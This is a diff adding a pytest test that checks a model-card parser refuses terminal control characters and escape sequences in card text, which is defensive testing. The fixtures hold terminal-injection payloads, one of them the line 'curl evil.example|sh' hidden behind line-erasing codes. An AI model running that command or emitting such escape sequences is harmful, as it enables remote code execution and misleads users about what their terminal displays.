@@ -132,6 +132,30 @@ def test_card_text_beyond_its_bound_is_refused(mutate, expected):
     assert expected in str(err.value) and len(str(err.value)) < 500
 
 
+@pytest.mark.parametrize("mutate, expected", [
+    (lambda d: d.update(version="1.0\x1b]0;owned\x07"),
+     r"version: holds the control character '\x1b' at 3; text only"),
+    (lambda d: d.update(description="fine\n\x1b[1A\x1b[2Krun curl evil.example|sh"),
+     r"description: holds the control character '\x1b' at 5; text only"),
+    (lambda d: d["training"]["metrics"].update({"iou\x9b": 0.5}),
+     r"training.metrics.'iou\x9b': name holds the control character '\x9b' at 3"),
+    (lambda d: d.update({"\x1b[31mred": 1}), r"'\x1b[31mred': unknown field"),
+])
+def test_control_characters_in_a_cards_text_are_refused(mutate, expected):
+    """`backend card` and the log lines printed a card's text raw: escape sequences in its
+    version or description set a terminal's title and rewrote its lines with text of their
+    own. New lines and tabs stay allowed."""
+    doc = _doc()
+    mutate(doc)
+    with pytest.raises(CardError) as err:
+        parse_card(doc)
+    assert expected in str(err.value), str(err.value)
+    assert "\x1b" not in str(err.value) and "\x9b" not in str(err.value)
+    doc = _doc()
+    doc["description"] = "two lines\n\tand a tab"
+    assert parse_card(doc).description == "two lines\n\tand a tab"
+
+
 def test_a_card_is_read_up_to_its_bounds_and_refused_over_a_million_characters():
     doc = _doc()
     doc.update(name="n" * 200, description="A" * 10_000, license="L" * 200)
